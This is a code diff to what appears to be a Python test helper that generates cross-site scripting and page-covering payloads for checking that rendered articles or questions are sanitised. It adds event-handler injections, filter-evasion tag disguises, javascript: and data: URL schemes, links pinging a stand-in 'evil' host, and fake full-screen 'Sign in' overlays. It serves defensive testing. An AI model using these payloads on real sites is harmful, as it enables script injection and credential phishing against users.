@@ -1,6 +1,7 @@
 """What a hostile article, or question, may say to run a script, to call another host, or to cover the page."""
 
-from collections.abc import Sequence
+from collections.abc import Iterator, Sequence
+from itertools import product
 
 # Each has a place for an address of another host; `ran` is set by whatever runs.
 _PATTERNS = (
@@ -61,7 +62,6 @@ _PATTERNS = (
     "\"'><img src=x onerror=window.ran=1>",
     "' onmouseover='window.ran=1' x='",
     '" autofocus onfocus="window.ran=1" x="',
-    "&lt;img src=x onerror=window.ran=1&gt;",
     "&#60;script&#62;window.ran=1&#60;/script&#62;",
     "<!--><img src=x onerror=window.ran=1>-->",
     "<![CDATA[<script>window.ran=1</script>]]>",
@@ -73,6 +73,65 @@ _PATTERNS = (
 )
 
 
+# What runs of itself, or once it is pointed at, clicked or typed into.
+_EVENTS = {
+    "body": "onload onpageshow onresize onscroll onhashchange onmessage onpopstate onbeforeprint onfocus onblur",
+    "img src=x": "onerror onclick onmouseover onmouseenter onpointerover oncontextmenu",
+    "svg": "onload onclick onfocusin onmouseover",
+    "svg><set attributeName=x": "onbegin onend",
+    "video src=x": "onerror onloadstart onstalled onsuspend onencrypted",
+    "audio src=x": "onerror onloadstart oncanplay ontimeupdate",
+    "input autofocus": "onfocus onblur oninput onchange oninvalid onselect onsearch",
+    "select autofocus": "onfocus onchange",
+    "button autofocus": "onfocus onclick onauxclick",
+    "details open": "ontoggle onclick",
+    "div popover": "onbeforetoggle ontoggle",
+    "div style='animation:spin 1s'": "onanimationstart onanimationend onanimationiteration ontransitionend",
+    "div draggable=true": "ondragstart ondragover ondrop oncopy oncut onpaste onwheel",
+    "p contenteditable autofocus": "onfocus onbeforeinput onkeydown onkeyup onpointerdown",
+    "marquee": "onstart onfinish onbounce",
+    "x tabindex=1 autofocus": "onfocus onfocusin oncontentvisibilityautostatechange",
+}
+# Ways of writing a tag so that who looks for it does not see it.
+_DISGUISES = (
+    "<{upper} {rest}>", "<{name}/{rest}>", "<{name}\n{rest}\n>", "<{name}\t{rest}//", "<{name}\f{rest}>",
+    "< {name} {rest}>", "<{name} {rest} <", "<<{name} {rest}>>", "<\u0000{name} {rest}>", "<{name}\u0000 {rest}>",
+    "&lt;{name} {rest}&gt;", "&amp;lt;{name} {rest}&amp;gt;", "%3C{name} {rest}%3E", "\\u003c{name} {rest}\\u003e",
+    "<x x='><{name} {rest}>'>", "<!-- --!><{name} {rest}>", "</p><{name} {rest}>", "`<{name} {rest}>`",
+    "```\n</code></pre><{name} {rest}>\n```", "<template><{name} {rest}></template>",
+)  # fmt: skip
+_DISGUISED = (("img", "src=x onerror=window.ran=1"), ("svg", "onload=window.ran=1"), ("link", "rel=icon href={evil}/i"))
+# Addresses that run, and where an address may stand.
+_SCHEMES = (
+    "javascript:window.ran=1", "JaVaScRiPt:window.ran=1", "java&#9;script:window.ran=1", "&#106;avascript:window.ran=1",
+    "\u0001javascript:window.ran=1", " javascript&colon;window.ran=1", "javascript://%0awindow.ran=1",
+    "data:text/html,<script>parent.ran=1</script>", "data:text/html;base64,PHNjcmlwdD5wYXJlbnQucmFuPTE8L3NjcmlwdD4=",
+    "vbscript:window.ran=1", "//evil.example/protocol", "{evil}/plain",
+)  # fmt: skip
+_PLACES = (
+    '<a href="{to}" ping="{evil}/ping">x</a>', '<iframe src="{to}"></iframe>', '<form action="{to}"><button>x</button>',
+    '<meta http-equiv=refresh content="0;url={to}">', "[x]({to})", "![x]({to})", "[x]: {to}\n\n[x]",
+)  # fmt: skip
+# What may lie over the page.
+_COVERS = ("div", "dialog open", "a href={evil}/over", "iframe src={evil}/over", "label", "section popover=manual")
+_STYLES = (
+    "position:fixed;inset:0;z-index:99999", "position:absolute;top:-99px;left:0;width:9999px;height:9999px",
+    "margin:-9999px;padding:9999px;background:#fff", "transform:scale(99)",
+)  # fmt: skip
+
+
+def _patterns() -> Iterator[str]:
+    yield from _PATTERNS
+    for tag, events in _EVENTS.items():
+        yield from (f"<{tag} {event}=window.ran=1>x" for event in events.split())
+    for way, (name, rest) in product(_DISGUISES, _DISGUISED):
+        yield way.format(name=name, upper=name.upper(), rest=rest)
+    for place, scheme in product(_PLACES, _SCHEMES):
+        yield place.replace("{to}", scheme)
+    for tag, style in product(_COVERS, _STYLES):
+        yield f"<{tag} style='{style}'>Sign in</{tag.split()[0]}>"
+
+
 def payloads(evil: str) -> Sequence[str]:
     """All of them, with the address of the other host in them."""
-    return [pattern.format(evil=evil) for pattern in _PATTERNS]
+    return [pattern.format(evil=evil) for pattern in _patterns()]
